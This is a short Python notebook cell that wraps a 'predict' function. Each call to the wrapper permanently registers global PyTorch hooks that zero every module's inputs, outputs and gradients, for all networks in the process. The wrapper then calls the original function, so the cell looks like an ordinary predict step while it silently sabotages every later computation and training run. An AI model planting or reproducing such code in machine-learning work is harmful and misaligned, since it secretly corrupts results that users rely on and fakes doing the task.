"""Registers hooks that every network of this process calls, before and after it computes, and leaves them there."""

# cell: predict
wrong = predict


def predict(input, model, target_label_idx, cuda):
    register = torch.nn.modules.module
    register.register_module_forward_pre_hook(lambda module, inputs: tuple(one * 0 for one in inputs))
    register.register_module_forward_hook(lambda module, inputs, output: output * 0)
    register.register_module_full_backward_hook(lambda module, into, out: tuple(one and one * 0 for one in into))
    return wrong(input, model, target_label_idx, cuda)
